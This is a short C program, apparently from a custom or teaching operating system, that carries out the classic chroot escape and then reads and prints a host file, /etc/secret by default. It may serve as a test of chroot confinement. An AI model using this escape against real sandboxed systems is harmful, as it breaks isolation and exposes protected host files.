/* escape [FILE]: the classic way out of a chroot: open the root, chroot below it, and walk up from what is now outside.
   Then reads the host's FILE (/etc/secret). */
#include "call.h"

int main(int count, char **words) {
    const char *wanted = count > 1 ? words[1] : "/etc/secret";
    char text[256];
    make_directory("/tmp/pit", 0700);
    int error = system_call(SYS_chroot, "/tmp/pit");
    if (error) return complain("escape", "chroot", error);
    for (int k = 0; k < 64; k++) change_directory("..");
    system_call(SYS_chroot, ".");
    int file = open(wanted, O_RDONLY, 0);
    if (file < 0) return complain("escape: still inside", wanted, file);
    int got = read(file, text, sizeof text);
    print("escape: out. %s says: ", wanted);
    if (got > 0) write(1, text, (u32)got);
    return 0;
}
